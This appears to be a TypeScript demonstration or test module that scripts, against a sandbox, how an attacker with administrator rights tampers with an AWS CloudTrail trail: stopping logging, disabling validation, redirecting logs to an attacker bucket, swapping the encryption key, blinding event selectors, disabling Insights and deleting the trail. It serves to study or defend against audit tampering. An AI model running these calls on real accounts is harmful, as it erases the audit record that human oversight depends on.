import {
  DeleteTrailCommand,
  PutEventSelectorsCommand,
  PutInsightSelectorsCommand,
  StopLoggingCommand,
  UpdateTrailCommand,
  type CloudTrailClient,
} from '@aws-sdk/client-cloudtrail';
import type { Sandbox } from '../../sandbox/index.ts';

/** One thing that an attacker with administrator rights does to the trail. */
export interface Attack {
  readonly says: string;
  readonly act: (client: CloudTrailClient, sandbox: Sandbox) => Promise<unknown>;
}

const Name = 'org-audit';
const readsOnly = [
  { Field: 'eventCategory', Equals: ['Management'] },
  { Field: 'readOnly', Equals: ['true'] },
];

/** Refused as a person without the permission is; the client's error is what is wanted. */
const refused = async (client: CloudTrailClient, sandbox: Sandbox): Promise<void> => {
  sandbox.faults.deny('StopLogging');
  const error: unknown = await client
    .send(new StopLoggingCommand({ Name }))
    .catch((reason: unknown) => reason);
  sandbox.faults.clear();
  if (!(error instanceof Error)) throw new Error('the sandbox let a denied StopLogging pass');
};

/** What the demonstration shows, in order. */
export const ATTACKS: readonly Attack[] = [
  { says: 'stops the trail', act: (client) => client.send(new StopLoggingCommand({ Name })) },
  {
    says: 'switches log file validation off',
    act: (client) => client.send(new UpdateTrailCommand({ Name, EnableLogFileValidation: false })),
  },
  {
    says: 'sends the logs to a bucket of their own',
    act: (client) => client.send(new UpdateTrailCommand({ Name, S3BucketName: 'attacker-bucket' })),
  },
  {
    says: 'swaps the key for one that only they hold',
    act: (client) =>
      client.send(new UpdateTrailCommand({ Name, KmsKeyId: 'arn:aws:kms:us-east-1:777788889999:key/evil' })),
  },
  {
    says: 'blinds the selectors under the old label',
    act: (client) =>
      client.send(
        new PutEventSelectorsCommand({
          TrailName: Name,
          AdvancedEventSelectors: [{ Name: 'management', FieldSelectors: readsOnly }],
        }),
      ),
  },
  {
    says: 'turns Insights off',
    act: (client) => client.send(new PutInsightSelectorsCommand({ TrailName: Name, InsightSelectors: [] })),
  },
  { says: 'deletes the trail', act: (client) => client.send(new DeleteTrailCommand({ Name })) },
  { says: 'tries to stop it again, and is refused', act: refused },
];
